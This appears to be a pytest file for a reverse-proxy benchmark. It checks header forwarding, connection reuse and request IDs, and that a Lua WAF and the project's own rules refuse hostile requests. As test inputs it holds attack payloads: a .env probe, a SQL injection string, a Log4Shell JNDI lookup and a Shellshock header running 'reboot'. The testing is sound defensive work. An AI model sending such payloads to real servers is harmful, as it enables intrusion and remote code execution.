"""The peers of the benchmark do the same work, and the one with Lua does the work that it is there for."""

from __future__ import annotations

import sys
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest

from benchmarks.peers import OTHERS, Missing, all_peers
from benchmarks.profiles import BROWSER, PROFILES
from benchmarks.servers import Stage
from tests.conftest import missing
from tests.e2e.loopback import FakeUpstream, Response, Wire, fake_upstream
from tests.e2e.programs import ROOT

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the benchmarks read /proc")

Ask = Callable[..., Response]


@pytest.fixture
def upstream() -> Iterator[FakeUpstream]:
    with fake_upstream() as server:
        yield server


@pytest.fixture
def start(binary: Path, upstream: FakeUpstream) -> Iterator[Callable[[str], Ask]]:
    """Give a function that starts a peer before the upstream, and gives a function that asks it."""
    with ExitStack() as stack:

        def started(name: str) -> Ask:
            port = upstream.listener.getsockname()[1]
            try:
                server = all_peers({"proxylings": binary})[name](
                    Stage(ROOT / "peers", stack), PROFILES["browser"], port
                )
            except Missing as reason:
                missing(f"{name}: {reason}")

            def ask(target: str = "/catalogue?page=2", *fields: str, times: int = 1) -> Response:
                with Wire.to(("127.0.0.1", server.port)) as wire:
                    lines = [f"GET {target} HTTP/1.1", "Host: shop.test", *fields, "", ""]
                    for _ in range(times - 1):
                        wire.send("\r\n".join(lines).encode())
                        wire.response()
                    wire.send("\r\n".join(lines).encode())
                    return wire.response()

            return ask

        yield started


def forwarded(upstream: FakeUpstream) -> dict[str, str]:
    """Return the fields of the last request that came to the upstream, by names in small letters."""
    lines = upstream.requests[-1].head.decode().split("\r\n")[1:-2]
    pairs = [line.split(":", 1) for line in lines]
    assert len({name.lower() for name, _ in pairs}) == len(pairs), f"no field comes twice: {lines}"
    return {name.lower(): value.strip() for name, value in pairs}


@pytest.mark.parametrize("peer", OTHERS)
def test_all_peers_forward_the_same_fields(peer: str, start: Callable[[str], Ask], upstream: FakeUpstream) -> None:
    """What our proxy adds, the others add; what it drops, they drop; both connections stay open."""
    got = {}
    for name in ("proxylings", peer):
        response = start(name)("/catalogue?page=2", *BROWSER)
        assert response.status == 200
        assert "close" not in (response.one("Connection") or "")
        fields = forwarded(upstream)
        assert (fields["host"], fields["x-forwarded-for"]) == ("shop.test", "127.0.0.1")
        assert fields["via"] == f"1.1 {name.removesuffix('-lua')}" == response.one("Via")
        assert fields.pop("connection", "keep-alive") == "keep-alive"
        fields.pop("x-request-id", None)
        got[name] = {field: value for field, value in fields.items() if field != "via"}
    assert got[peer] == got["proxylings"]


@pytest.mark.parametrize("peer", ["proxylings", *OTHERS])
def test_all_peers_keep_their_connection_to_the_origin(
    peer: str, start: Callable[[str], Ask], upstream: FakeUpstream
) -> None:
    """Three requests of a client, one after the other: the origin sees one connection."""
    assert start(peer)(times=3).status == 200
    assert (len(upstream.requests), upstream.connections) == (3, 1)


@pytest.mark.parametrize(
    ("target", "field"),
    [
        ("/shop/.env", ""),
        ("/?q=1%20UNION%20ALL%20select%20password", ""),
        ("/?q=<script>", ""),
        ("/", "User-Agent: ${jndi:ldap://example.test/a}"),
        ("/", "Referer: () { :; }; reboot"),
    ],
)
def test_the_waf_in_lua_refuses(target: str, field: str, start: Callable[[str], Ask], upstream: FakeUpstream) -> None:
    """A hostile request gets 403 and does not reach the origin."""
    response = start("nginx-lua")(target, *([field] if field else []))
    assert response.status == 403
    assert upstream.requests == []


@pytest.mark.parametrize(
    ("target", "field"),
    [
        ("/.env", ""),
        ("/%2eenv", ""),
        ("/", "User-Agent: ${jndi:ldap://example.test/a}"),
        ("/", "User-Agent: () { :; }; reboot"),
    ],
)
def test_our_rules_refuse_what_the_waf_in_lua_refuses(
    target: str, field: str, start: Callable[[str], Ask], upstream: FakeUpstream
) -> None:
    """Prefixes and texts instead of patterns: the same requests get 403, and do not reach the origin."""
    for name in ("proxylings-rules", "nginx-lua"):
        assert start(name)(target, *([field] if field else [])).status == 403, name
    assert upstream.requests == []


def test_our_rules_change_the_fields_that_lua_changes(start: Callable[[str], Ask], upstream: FakeUpstream) -> None:
    got = {}
    for name in ("proxylings-rules", "nginx-lua"):
        response = start(name)("/", "X-Internal-Token: secret", "X-Waf-Verdict: pass", "Accept: */*")
        fields = forwarded(upstream)
        assert fields["x-request-id"] == response.one("X-Request-Id")
        got[name] = set(fields) - {"connection"}
    assert got["proxylings-rules"] == got["nginx-lua"]


def test_lua_gives_a_request_id_and_drops_what_a_client_may_not_say(
    start: Callable[[str], Ask], upstream: FakeUpstream
) -> None:
    """The origin and the client see the same id, another one each time; the client's own words do not pass."""
    ask = start("nginx-lua")
    ids = set()
    for _ in range(2):
        response = ask("/", "X-Request-Id: mine", "X-Internal-Token: secret", "Cookie: a=1; b=2", *BROWSER)
        fields = forwarded(upstream)
        assert fields["x-request-id"] == response.one("X-Request-Id")
        assert "x-internal-token" not in fields
        assert fields["cookie"] == "a=1; b=2"
        ids.add(fields["x-request-id"])
    assert len(ids) == 2
    assert "mine" not in ids
